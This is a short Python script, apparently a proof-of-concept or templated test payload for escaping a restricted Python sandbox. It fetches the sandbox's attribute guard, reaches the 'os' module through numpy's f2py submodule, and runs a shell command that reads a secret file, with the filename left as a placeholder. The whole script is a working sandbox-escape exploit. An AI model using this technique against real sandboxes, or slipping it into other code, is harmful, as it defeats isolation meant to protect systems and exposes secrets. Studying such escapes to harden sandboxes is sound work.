"""The guard is a value: whoever can name it can ask it for anything."""
import numpy as np
module = [np][0]
ask = globals().get("_getattr_", getattr)
print(ask(ask(module, "f2py"), "os").popen("cat @SECRET_FILE@").read())
